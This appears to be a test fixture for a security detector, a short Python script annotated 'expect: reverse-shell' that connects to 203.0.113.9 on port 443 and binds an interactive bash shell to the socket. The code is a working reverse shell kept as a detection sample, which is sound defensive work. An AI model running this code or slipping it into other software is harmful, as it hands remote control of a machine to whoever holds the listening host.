# expect: reverse-shell 8:12
import socket
import subprocess

conn = socket.socket()
conn.connect(("203.0.113.9", 443))
sock_fd = conn.fileno()
subprocess.call(["/bin/bash", "-i"], stdin=sock_fd, stdout=sock_fd, stderr=sock_fd)
